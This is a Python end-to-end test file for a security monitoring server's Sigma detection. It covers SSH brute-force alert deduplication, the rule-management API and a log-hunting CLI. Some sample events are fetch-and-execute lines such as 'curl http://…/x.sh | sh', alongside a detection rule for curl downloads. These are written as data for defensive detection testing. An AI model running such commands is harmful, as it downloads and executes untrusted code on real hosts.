"""End-to-end: Sigma detection in the server. An SSH brute force sent by syslog
becomes one deduplicated alert (not 200), pushed on the WebSocket, with the
rule's explanation; rules are managed and tested through the API."""

import json
import os
import socket
import subprocess
import tempfile
import time
import unittest

from harness import BIN, Server, WebSocket, wait_for

RULE = """title: Test rule - curl downloads
id: test-curl-download
status: experimental
logsource: {product: linux}
detection:
    selection:
        message|contains: 'curl http'
    condition: selection
level: medium
tags: [attack.command_and_control, attack.t1105]
"""


def send_syslog_tcp(port, lines):
    with socket.create_connection(("127.0.0.1", port)) as s:
        for line in lines:
            s.sendall(("<38>1 2026-11-29T10:00:00Z web-1 sshd 4242 - - " + line + "\n").encode())


class DetectionTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.server = Server(env={"RATE_LIMIT_PER_MINUTE": "0", "RATE_LIMIT_INGEST_PER_MINUTE": "0"})
        cls.token = cls.server.login()["access_token"]

    @classmethod
    def tearDownClass(cls):
        cls.server.stop()

    def call(self, method, path, body=None):
        return self.server.json(method, path, body, token=self.token)

    def test_brute_force_by_syslog_is_one_alert_pushed_live(self):
        ws = WebSocket(self.server.port, "/api/v1/monitor/ws?token=" + self.token)
        try:
            self.assertEqual(ws.recv()["type"], "subscribed")
            ws.send(json.dumps({"type": "subscribe", "filters": {"kinds": ["alerts"]}}))
            self.assertEqual(ws.recv()["type"], "subscribed")
            lines = ["Failed password for root from 203.0.113.66 port %d ssh2" % (40000 + i) for i in range(200)]
            send_syslog_tcp(self.server.syslog_port, lines)
            sent = time.time()
            first = ws.recv()
            latency = time.time() - sent
            self.assertEqual(first["type"], "alert")
            print("\nalert on the WebSocket %.0f ms after the last syslog line was written" % (latency * 1000))
            self.assertLess(latency, 5)
        finally:
            ws.close()

        def alerts_for(rule):
            _, _, page = self.call("GET", "/api/v1/alerts?ip=203.0.113.66&limit=50")
            return [a for a in page["items"] if a["title"] == rule]

        failed = wait_for(lambda: (a := alerts_for("SSH Failed Login")) and a[0]["count"] == 200 and a, timeout=15)
        self.assertTrue(failed, alerts_for("SSH Failed Login"))
        self.assertEqual(len(failed), 1, "200 failed logins are one alert")
        brute = wait_for(lambda: alerts_for("SSH Brute Force"), timeout=10)
        self.assertEqual(len(brute), 1)
        self.assertEqual(brute[0]["severity"], "high")
        self.assertIn("credential-access", brute[0]["tactics"])
        self.assertIn("T1110.001", brute[0]["techniques"])
        details = brute[0]["evidence"]["details"][0]
        self.assertTrue(details["correlation"])
        self.assertIn("203.0.113.66", details["group"])
        _, _, full = self.call("GET", "/api/v1/alerts/" + failed[0]["id"])
        self.assertTrue(full["evidence"]["events"])
        event = full["evidence"]["events"][0]
        self.assertIn(failed[0]["rule_id"], event["rule"]["ids"])
        _, _, stats = self.call("GET", "/api/v1/rules/stats")
        by_id = {r["id"]: r for r in stats["rules"]}
        self.assertGreaterEqual(by_id[failed[0]["rule_id"]]["matches"], 200)
        self.assertGreater(stats["compiled"], 5)

    def test_rules_api(self):
        status, _, listing = self.call("GET", "/api/v1/rules?level=high")
        self.assertEqual(status, 200)
        self.assertTrue(all(r["level"] == "high" for r in listing["items"]))
        builtin = listing["items"][0]

        status, _, body = self.server.request("POST", "/api/v1/rules", body=RULE.encode(),
                                               headers={"Authorization": "Bearer " + self.token,
                                                        "Content-Type": "application/yaml"})
        self.assertEqual(status, 201, body)
        status, _, _ = self.server.request("POST", "/api/v1/rules", body=RULE.encode(),
                                           headers={"Authorization": "Bearer " + self.token,
                                                    "Content-Type": "application/yaml"})
        self.assertEqual(status, 409)
        status, _, err = self.call("POST", "/api/v1/rules", {"yaml": RULE.replace("condition: selection", "condition: nope")})
        self.assertEqual(status, 422, err)
        self.assertTrue(err["error"]["issues"])

        status, _, tested = self.call("POST", "/api/v1/rules/test",
                                      {"rule_id": "test-curl-download",
                                       "events": [{"message": "bash -c curl http://198.51.100.9/x.sh | sh"},
                                                  {"message": "nothing to see"}]})
        self.assertEqual(status, 200, tested)
        self.assertEqual(tested["detections"], 1)
        self.assertEqual(tested["items"][0]["explanation"]["matched"][0]["selection"], "selection")

        status, _, ingested = self.server.json("POST", "/api/v1/monitor/events",
                                               {"message": "wget then curl http://198.51.100.9/y", "host": "db-2"},
                                               token=self.token, headers={"X-Request-Id": "e2e-origin-42"})
        self.assertEqual(status, 202)
        alert = wait_for(lambda: [a for a in self.call("GET", "/api/v1/alerts?rule=test-curl-download")[2]["items"]],
                         timeout=10)
        self.assertTrue(alert, "the new rule fires on live events")
        # The alert leads back to the ingest call that brought the event.
        self.assertEqual(alert[0]["evidence"]["details"][0]["origin"], "e2e-origin-42")

        status, _, got = self.call("PUT", "/api/v1/rules/test-curl-download", {"yaml": RULE.replace("level: medium", "level: high")})
        self.assertEqual((status, got.get("level")), (200, "high"), got)
        status, _, _ = self.call("PUT", "/api/v1/rules/" + builtin["id"], {"yaml": RULE})
        self.assertIn(status, (400, 409))
        status, _, _ = self.call("DELETE", "/api/v1/rules/" + builtin["id"])
        self.assertEqual(status, 409)
        status, _, _ = self.call("DELETE", "/api/v1/rules/test-curl-download")
        self.assertEqual(status, 204)
        status, _, _ = self.call("GET", "/api/v1/rules/test-curl-download")
        self.assertEqual(status, 404)


class HuntTest(unittest.TestCase):
    """`securityai hunt` over files, as a user retro-hunts an auth.log."""

    AUTH_LOG = "".join(
        "Nov 29 10:00:%02d bastion-01 sshd[1201]: Failed password for root from 203.0.113.5 port %d ssh2\n"
        % (i, 40000 + i) for i in range(10)) + (
        "Nov 29 10:00:11 bastion-01 sshd[1201]: Accepted password for root from 203.0.113.5 port 40011 ssh2\n"
        "Nov 29 10:01:00 bastion-01 sudo:   alice : 3 incorrect password attempts ; TTY=pts/0 ; "
        "PWD=/home/alice ; USER=root ; COMMAND=/bin/bash\n")

    def hunt(self, *args):
        run = subprocess.run([BIN, "hunt", *args], capture_output=True, text=True, timeout=60)
        return run.returncode, [json.loads(line) for line in run.stdout.splitlines()], run.stderr

    def test_an_auth_log_as_rsyslog_writes_it_with_the_built_in_rules(self):
        with tempfile.TemporaryDirectory() as tmp:
            path = os.path.join(tmp, "auth.log")
            with open(path, "w") as f:
                f.write(self.AUTH_LOG + "<999>a malformed priority\n")
            rc, found, err = self.hunt("--input-format", "syslog", path)
            titles = [d["title"] for d in found]
            self.assertIn("SSH Brute Force", titles)
            self.assertIn("SSH Successful Brute Force", titles)
            self.assertIn("Sudo or Su Authentication Failure", titles)
            self.assertEqual(titles.count("SSH Failed Login"), 10)
            self.assertIn("12 events, 1 rejected", err)
            self.assertIn("auth.log:13: not syslog: malformed <PRI>", err, "lines numbered from 1")

    def test_rules_named_replace_the_built_in_pack(self):
        with tempfile.TemporaryDirectory() as tmp:
            with open(os.path.join(tmp, "curl.yml"), "w") as f:
                f.write(RULE)
            events = os.path.join(tmp, "events.ndjson")
            with open(events, "w") as f:
                f.write(json.dumps({"message": "curl http://203.0.113.9/x.sh | sh", "host": "web-1"}) + "\n")
                f.write(json.dumps({"message": "Failed password for root from 203.0.113.5", "process.name": "sshd"}))
            rc, found, _ = self.hunt("--rules", tmp, events)
            self.assertEqual([(d["rule_id"], d["index"]) for d in found], [("test-curl-download", 0)])


if __name__ == "__main__":
    unittest.main()
